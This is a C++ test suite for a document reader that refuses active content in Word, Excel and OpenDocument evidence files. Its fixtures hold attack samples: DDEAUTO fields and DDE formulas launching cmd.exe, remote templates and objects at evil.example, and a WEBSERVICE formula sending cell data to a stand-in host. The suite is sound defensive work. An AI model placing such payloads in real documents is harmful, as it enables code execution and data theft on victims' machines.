// What an office file of evidence would fetch or start by being opened is refused as it comes in, by name and reason.
#include <random>

#include <fmt/format.h>
#include <gmock/gmock.h>

#include "base/error.hpp"
#include "procedures/office/archive.hpp"
#include "procedures/office/office_text.hpp"

namespace classeur::procedures::office
{
namespace
{

using Parts = std::vector<std::pair<std::string, std::string>>;

constexpr std::string_view kRelations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

std::string ooxml(std::string_view main_part, std::string_view main_type, const Parts& parts)
{
  std::vector<ArchiveEntry> entries = {
      {"[Content_Types].xml",
       fmt::format("<Types><Override PartName=\"/{}\" ContentType=\"application/vnd.openxmlformats-officedocument.{}"
                   ".main+xml\"/></Types>",
                   main_part, main_type),
       Packing::kDeflated}};
  for (const auto& [name, content] : parts) entries.push_back({name, content, Packing::kDeflated});
  return write_archive(entries);
}

std::string docx(Parts parts, std::string_view body = "")
{
  parts.emplace_back("word/document.xml",
                     fmt::format("<w:document xmlns:w=\"urn:w\"><w:body>{}</w:body></w:document>", body));
  return ooxml("word/document.xml", "wordprocessingml.document", parts);
}

std::string xlsx(Parts parts, std::string_view cells = "")
{
  parts.emplace_back("xl/workbook.xml", "<workbook/>");
  parts.emplace_back("xl/worksheets/sheet1.xml",
                     fmt::format("<worksheet><sheetData>{}</sheetData></worksheet>", cells));
  return ooxml("xl/workbook.xml", "spreadsheetml.sheet", parts);
}

std::string relations(std::string_view type, std::string_view target,
                      std::string_view mode = " TargetMode=\"External\"")
{
  return fmt::format("<Relationships><Relationship Id=\"r1\" Type=\"{}{}\" Target=\"{}\"{}/></Relationships>",
                     kRelations, type, target, mode);
}

std::string odf(std::string_view media_type, std::string_view content, const Parts& parts = {})
{
  std::vector<ArchiveEntry> entries = {
      {"mimetype", std::string(media_type), Packing::kStored},
      {"content.xml",
       fmt::format("<o:document-content xmlns:o=\"urn:o\" xmlns:t=\"urn:t\" xmlns:x=\"urn:x\">{}</o:document-content>",
                   content),
       Packing::kDeflated}};
  for (const auto& [name, part] : parts) entries.push_back({name, part, Packing::kDeflated});
  return write_archive(entries);
}
std::string odt(std::string_view content, const Parts& parts = {})
{
  return odf(kOdtMediaType, content, parts);
}
std::string ods(std::string_view content)
{
  return odf(kOdsMediaType, content);
}

// A field in three parts, its instruction cut into runs.
std::string field(std::string_view first, std::string_view second = "")
{
  return fmt::format(
      "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>"
      "<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
      first, second);
}

std::string cell(std::string_view formula)
{
  return fmt::format("<c><f>{}</f></c>", formula);
}

// What stands in front of an object of OLE: [MS-CFB], 2.2.
constexpr std::string_view kOle = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1";

std::string workbook_with(const Parts& parts)
{
  return xlsx(parts);
}
// In an archive within an archive, and so on.
std::string nested(int levels, std::string bytes)
{
  for (int level = 0; level < levels; ++level) {
    bytes = docx({{"word/embeddings/Microsoft_Word_Document.docx", std::move(bytes)}});
  }
  return bytes;
}

struct Case {
  const char* name;
  std::string bytes;
  const char* reason;  // "": it is taken
};

class LiveContentOf : public ::testing::TestWithParam<Case>
{
};

TEST_P(LiveContentOf, IsRefusedWithItsReasonOrTaken)
{
  const auto read = [&](LiveContent live) { return read_office_text(GetParam().bytes, "pièce", 0, live); };
  EXPECT_NO_THROW(read(LiveContent::kKept)) << "what is there is read";
  const std::string reason = GetParam().reason;
  if (reason.empty()) {
    EXPECT_NO_THROW(read(LiveContent::kRefused));
    return;
  }
  try {
    read(LiveContent::kRefused);
    ADD_FAILURE() << "was taken";
  } catch (const base::Error& error) {
    EXPECT_EQ(error.code(), base::ErrorCode::kBadInput);
    EXPECT_THAT(error.advice(), ::testing::StartsWith("pièce, partie «\u00A0"));
    EXPECT_THAT(error.advice(), ::testing::HasSubstr(reason));
    EXPECT_THAT(error.advice(), ::testing::HasSubstr("versez-le en PDF")) << "what to do";
  }
}

INSTANTIATE_TEST_SUITE_P(
    Docx, LiveContentOf,
    ::testing::Values(
        Case{"RemoteTemplate",
             docx({{"word/_rels/settings.xml.rels", relations("attachedTemplate", "https://evil.example/a.dotm")}}),
             "un modèle d’une autre machine"},
        Case{"TemplateOfAServer",
             docx({{"word/_rels/settings.xml.rels", relations("attachedTemplate", "file:///\\\\serveur\\a.dotm")}}),
             ""},
        Case{"TemplateOfTheHouse",
             docx({{"word/_rels/settings.xml.rels", relations("attachedTemplate", "file:///C:\\Modeles\\a.dotx")}}),
             ""},
        Case{"RemoteObject",
             docx({{"word/_rels/document.xml.rels", relations("oleObject", "https://evil.example/a.xls")}}),
             "«\u00A0https://evil.example/a.xls\u00A0»"},
        Case{"RemotePicture", docx({{"word/_rels/document.xml.rels", relations("image", "http://evil.example/a.png")}}),
             "chargé à l’ouverture"},
        Case{"RemoteByTargetAlone", docx({{"word/_rels/document.xml.rels", relations("frame", "\\\\evil\\a.htm", "")}}),
             "chargé à l’ouverture"},
        Case{"PictureWithin", docx({{"word/_rels/document.xml.rels", relations("image", "media/a.png", "")}}), ""},
        Case{"Hyperlink", docx({{"word/_rels/document.xml.rels", relations("hyperlink", "https://www.gouv.fr/")}}), ""},
        Case{"Dde", docx({}, field("DDE Excel \"a.xls\" \"L1C1\"")), "un champ «\u00A0DDE\u00A0»"},
        Case{"DdeautoInTwoRuns", docx({}, field("DDEA", "UTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")),
             "un champ «\u00A0DDEAUTO\u00A0»"},
        Case{"DdeOfASimpleField", docx({}, "<w:p><w:fldSimple w:instr=\" dde cmd \"/></w:p>"), "un champ «\u00A0dde"},
        Case{"DdeInAHeader",
             docx({{"word/header1.xml", "<w:hdr xmlns:w=\"urn:w\">" + field("DDEAUTO cmd") + "</w:hdr>"}}),
             "word/header1.xml"},
        Case{"ComputedName",
             docx({},
                  "<w:p><w:fldChar w:fldCharType=\"begin\"/><w:fldChar w:fldCharType=\"begin\"/><w:instrText>QUOTE "
                  "68 68 69</w:instrText><w:fldChar w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"end\"/></w:p>"),
             "dont le nom est calculé"},
        Case{"PlainFields", docx({}, field("PAGE") + field("MACROBUTTON NoMacro [Cliquez ici]") + field("TOC \\o")),
             ""},
        Case{"TextOfAnotherFormat",
             docx({{"word/_rels/document.xml.rels", relations("aFChunk", "a.htm", "")},
                   {"word/a.htm", "<html><img src='https://evil.example/a.png'></html>"}}),
             "un texte d’un autre format"},
        Case{"TextOfAnotherPlace",
             docx({{"word/_rels/document.xml.rels", relations("aFChunk", "https://evil.example/a.htm")}}),
             "«\u00A0https://evil.example/a.htm\u00A0»"},
        Case{"SubDocument",
             docx({{"word/_rels/document.xml.rels", relations("subDocument", "https://evil.example/a.docx")}}),
             "«\u00A0https://evil.example/a.docx\u00A0»"},
        Case{"RemoteFrame",
             docx({{"word/_rels/webSettings.xml.rels", relations("frame", "https://evil.example/a.htm")}}),
             "chargé à l’ouverture"},
        Case{"RemotePictureByField", docx({}, field("INCLUDEPICTURE \"https://evil.example/a.png\" \\d")),
             "un champ «\u00A0INCLUDEPICTURE\u00A0»"},
        Case{"PictureOfAServerByField", docx({}, field("includepicture ", "\\\\\\\\evil\\\\a.png")),
             "un champ «\u00A0includepicture\u00A0»"},
        Case{"RemotePictureOfASimpleField",
             docx({}, "<w:p><w:fldSimple w:instr=\"IMPORT &quot;http://evil.example/a.png&quot;\"/></w:p>"),
             "un champ «\u00A0IMPORT\u00A0»"},
        Case{"PictureOfAComputedPlace",
             docx({},
                  "<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText>INCLUDEPICTURE </w:instrText><w:fldChar "
                  "w:fldCharType=\"begin\"/><w:instrText>QUOTE 104 116</w:instrText><w:fldChar "
                  "w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"end\"/></w:p>"),
             "un champ «\u00A0INCLUDEPICTURE\u00A0»"},
        Case{"PictureOfTheHouseByField", docx({}, field("INCLUDEPICTURE \"C:\\\\Logos\\\\a.png\" \\* MERGEFORMAT")),
             ""},
        Case{"RemoteTextByField", docx({}, field("INCLUDETEXT \"https://evil.example/a.docx\"")), "INCLUDETEXT"},
        Case{"OleObjectByItsRelation",
             docx({{"word/_rels/document.xml.rels", relations("oleObject", "embeddings/a.bin", "")},
                   {"word/embeddings/a.bin", "rien"}}),
             "un objet OLE"},
        Case{"OleObjectByItsBytes", docx({{"word/embeddings/a.xls", std::string(kOle) + "reste"}}), "un objet OLE"},
        Case{"ControlByItsRelation",
             docx({{"word/_rels/document.xml.rels", relations("control", "controls/a.xml", "")}}), "un objet OLE"},
        Case{"MacrosByTheirRelation",
             docx({{"word/_rels/document.xml.rels",
                    "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/"
                    "vbaProject\" Target=\"a.bin\"/></Relationships>"}}),
             "une macro"},
        Case{"ProgramByItsName", docx({{"word/embeddings/facture.vbs", "rien"}}), "un programme"},
        Case{"ProgramByItsBytes", docx({{"word/embeddings/a.bin", "MZ\x90"}}), "un programme"},
        Case{"WorkbookWithMacrosWithin",
             docx({{"word/embeddings/a.xlsx", workbook_with({{"xl/vbaProject.bin", "rien"}})}}),
             "word/embeddings/a.xlsx"},
        Case{"WorkbookOfMacrosByItsType",
             docx({{"word/embeddings/a.xlsx",
                    write_archive({{"[Content_Types].xml",
                                    "<Types><Override ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main"
                                    "+xml\"/></Types>",
                                    Packing::kDeflated}})}}),
             "word/embeddings/a.xlsx"},
        Case{"ProgramInADocumentInADocument", docx({{"word/embeddings/a.docx", nested(1, docx({{"a.exe", "rien"}}))}}),
             "un programme"},
        Case{"DocumentsInEachOther", nested(9, docx({})), "emboîtés"},
        Case{"WorkbookWithin",
             docx({{"word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook_with({})},
                   {"word/charts/_rels/chart1.xml.rels",
                    relations("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "")},
                   {"word/printerSettings1.bin", "reste"},
                   {"word/fonts/font1.odttf", "MZ, by the key that it is mixed with"}}),
             ""},
        Case{"DocumentInADocument", nested(2, docx({})), ""},
        Case{"FieldInAPartOfAnotherName",
             docx({{"word/a.bin", "<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">" +
                                      field("DDEAUTO cmd") + "</w:hdr>"}}),
             "word/a.bin"}),
    [](const auto& test) { return std::string(test.param.name); });

INSTANTIATE_TEST_SUITE_P(
    Xlsx, LiveContentOf,
    ::testing::Values(
        Case{"LinkedWorkbook",
             xlsx({{"xl/externalLinks/externalLink1.xml", "<externalLink><externalBook/></externalLink>"},
                   {"xl/externalLinks/_rels/externalLink1.xml.rels", relations("externalLinkPath", "autre.xlsx")}}),
             ""},
        Case{"DdeLink",
             xlsx({{"xl/externalLinks/externalLink1.xml",
                    "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"}}),
             "un lien DDE"},
        Case{"OleLink", xlsx({{"xl/externalLinks/externalLink1.xml", "<externalLink><oleLink/></externalLink>"}}),
             "un objet"},
        Case{"DdeFormula", xlsx({}, cell("cmd|'/c calc'!A0")), "un lien DDE"},
        Case{"WebService", xlsx({}, cell("_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;A1)")), "WEBSERVICE"},
        Case{"RealTime", xlsx({}, cell("RTD(\"serveur\",,\"a\")")), "RTD"},
        Case{"NameOfAnotherMachine",
             xlsx({{"xl/x.xml", "<definedNames><definedName>webservice (\"http://a\")</definedName></definedNames>"}}),
             "WEBSERVICE"},
        Case{"SheetOfMacros",
             xlsx({{"xl/_rels/workbook.xml.rels",
                    "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/"
                    "xlMacrosheet\" Target=\"a.xml\"/></Relationships>"}}),
             "une macro"},
        Case{"ConnectionAtOpening",
             xlsx({{"xl/connections.xml", "<connections><connection refreshOnLoad=\"1\"/></connections>"}}),
             "actualisée à l’ouverture"},
        Case{"ConnectionByHand", xlsx({{"xl/connections.xml", "<connections><connection id=\"1\"/></connections>"}}),
             ""},
        Case{"PlainFormulas",
             xlsx({}, cell("SUM(A1:A3)") + cell("'Site|Nord'!A1&amp;\"a|b dde(\"") + cell("HYPERLINK(\"http://a\")") +
                          cell("CARTRTD(1)")),
             ""},
        Case{"Hyperlink",
             xlsx({{"xl/worksheets/_rels/sheet1.xml.rels", relations("hyperlink", "https://www.gouv.fr/")}}), ""}),
    [](const auto& test) { return std::string(test.param.name); });

INSTANTIATE_TEST_SUITE_P(
    OpenDocument, LiveContentOf,
    ::testing::Values(
        Case{"DdeConnection", odt("<t:dde-connection-decl o:dde-application=\"soffice\"/>"), "un lien DDE"},
        Case{"DdeLinks", ods("<t:dde-links><t:dde-link><o:dde-source/></t:dde-link></t:dde-links>"), "un lien DDE"},
        Case{"DdeFormula", ods("<t:table-cell t:formula=\"of:=DDE(&quot;soffice&quot;;&quot;a&quot;)\"/>"),
             "un lien DDE"},
        Case{"WebService", ods("<t:table-cell t:formula=\"of:=COM.MICROSOFT.WEBSERVICE([.A1])\"/>"), "WEBSERVICE"},
        Case{"LinkedTable", ods("<t:table-source x:href=\"../autre.ods\"/>"), "«\u00A0../autre.ods\u00A0»"},
        Case{"RemoteObject", odt("<t:object x:href=\"https://evil.example/a.odt\"/>"), "chargé à l’ouverture"},
        Case{"RemotePicture", odt("<t:image x:href=\"http://evil.example/a.png\"/>"), "chargé à l’ouverture"},
        Case{"LinkedSection", odt("<t:section-source x:href=\"file:///srv/a.odt\"/>"), "chargé à l’ouverture"},
        Case{"RemoteTemplate",
             odt("", {{"meta.xml", "<m xmlns:x=\"urn:x\"><template x:href=\"https://evil.example/a.ott\"/></m>"}}),
             "meta.xml"},
        Case{"TemplateOfTheHouse",
             odt("", {{"meta.xml", "<m xmlns:x=\"urn:x\"><template x:href=\"../../modeles/a.ott\"/></m>"}}), ""},
        Case{"OleObject", odt("<t:object-ole x:href=\"./Object 1\"/>", {{"Object 1", std::string(kOle)}}),
             "un objet OLE"},
        Case{"Program", odt("", {{"Object 1", "MZ\x90"}}), "un programme"},
        Case{"MacroOfTheMachine",
             odt("<o:event-listener x:href=\"vnd.sun.star.script:A.B.C?language=Basic&amp;location=application\"/>"),
             "une macro"},
        Case{"ClickOfASlide", odf(kOdpMediaType, "<o:event-listener o:action=\"show\" x:href=\"https://a.example/\"/>"),
             ""},
        Case{"WhatIsWithin",
             odt("<t:object x:href=\"./Object 1\"/><t:image x:href=\"Pictures/a.png\"/><t:a "
                 "x:href=\"https://a.example/\"/>"
                 "<t:form x:href=\"https://a.example/envoi\"/>",
                 {{"Object 1/content.xml", "<c xmlns:x=\"urn:x\"><chart x:href=\"..\"/></c>"},
                  {"META-INF/manifest.xml", "<!DOCTYPE manifest PUBLIC \"a\" \"Manifest.dtd\"><manifest/>"}}),
             ""}),
    [](const auto& test) { return std::string(test.param.name); });

// Each would do; together they are without measure.
TEST(LiveContent, FilesWithinAreUnpackedUpToALimit)
{
  std::mt19937 random(1);
  std::string large(std::size_t{60} << 20, '\0');
  for (std::size_t at = 0; at < large.size() / 100; ++at) large[at] = static_cast<char>(random());
  const std::string within = write_archive({{"xl/media/a.bmp", std::move(large), Packing::kDeflated}});
  const auto take = [&](int count) {
    Parts parts;
    for (int number = 0; number < count; ++number)
      parts.emplace_back(fmt::format("word/embeddings/{}.xlsx", number), within);
    read_office_text(docx(parts), "pièce", 0, LiveContent::kRefused);
  };
  EXPECT_NO_THROW(take(3));
  try {
    take(4);
    ADD_FAILURE() << "was taken";
  } catch (const base::Error& error) {
    EXPECT_EQ(error.code(), base::ErrorCode::kTooLarge);
    EXPECT_THAT(error.advice(), ::testing::HasSubstr("bombe de décompression"));
  }
}

// One that cannot be read to its end cannot be known.
TEST(LiveContent, MalformedPartsAreRefused)
{
  const std::string bytes = docx({{"word/_rels/settings.xml.rels", "<Relationships><Relationship"}});
  EXPECT_NO_THROW(read_office_text(bytes, "pièce", 0));
  EXPECT_THROW(read_office_text(bytes, "pièce", 0, LiveContent::kRefused), base::Error);
}

}  // namespace
}  // namespace classeur::procedures::office
